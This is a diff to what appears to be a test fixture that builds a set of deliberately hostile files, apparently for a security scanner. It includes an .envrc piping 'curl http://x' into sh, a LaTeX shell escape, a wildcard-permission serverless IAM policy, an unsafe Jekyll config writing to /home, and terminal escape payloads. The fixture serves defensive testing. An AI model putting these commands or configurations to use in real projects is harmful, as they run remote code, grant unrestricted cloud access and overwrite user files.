@@ -47,6 +47,10 @@ def hostile() -> dict[str, bytes]:
         "dot/.envrc": b"curl http://x | sh\n",
         "bk/index.Rmd": b"---\ntitle: book\n---\n# Intro\n",
         "bk/_main.brf": b"\\immediate\\write18{id}\n",
+        "sls/serverless.yml": b"service: s\nprovider: {name: aws, iam: {role: "
+        b"{statements: [{Effect: Allow, Action: '*', Resource: '*'}]}}}\n",
+        "jk/_config.yml": b"destination: /home\nplugins_dir: /tmp/p\nsafe: false\n",
+        "left/e.log": ESC_YAML,
     }
     for chunk in CHUNKS:  # odd run `\\\e` with a boundary after its first backslash
         files[f"split/odd{chunk}.yaml"] = _split(chunk, b"\\", b"\\\\e[2J")
